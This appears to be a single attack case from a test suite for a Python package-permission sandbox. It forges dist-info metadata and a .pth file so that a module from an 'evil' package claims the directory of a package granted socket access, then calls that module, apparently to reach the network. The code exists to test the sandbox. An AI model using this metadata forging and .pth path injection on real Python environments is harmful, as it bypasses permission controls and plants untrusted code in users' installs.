"""Metadata of one's own claims a granted package's directory."""
CATEGORY = "forging"
REACH = "net"
POLICY = {"socket": ["good", "later"]}
POLICIES = "allow"
RUNS = 2

import json
import os

from . import payload


def attack():
    info = payload.DEPS + "/later-1.dist-info"
    os.makedirs(info, exist_ok=True)
    here = os.path.dirname(__file__)
    texts = {
        "METADATA": "Metadata-Version: 2.1\nName: later\nVersion: 1\n",
        "RECORD": "later.pth,,\nlater-1.dist-info/METADATA,,\n",
        "direct_url.json": json.dumps({
            "url": "file://" + here, "dir_info": {"editable": True}})}
    for name, text in texts.items():
        with open(os.path.join(info, name), "w") as file:
            file.write(text)
    with open(payload.DEPS + "/later.pth", "w") as file:
        file.write(here + "/fake\n")
    from evil.fake import later
    later.get()
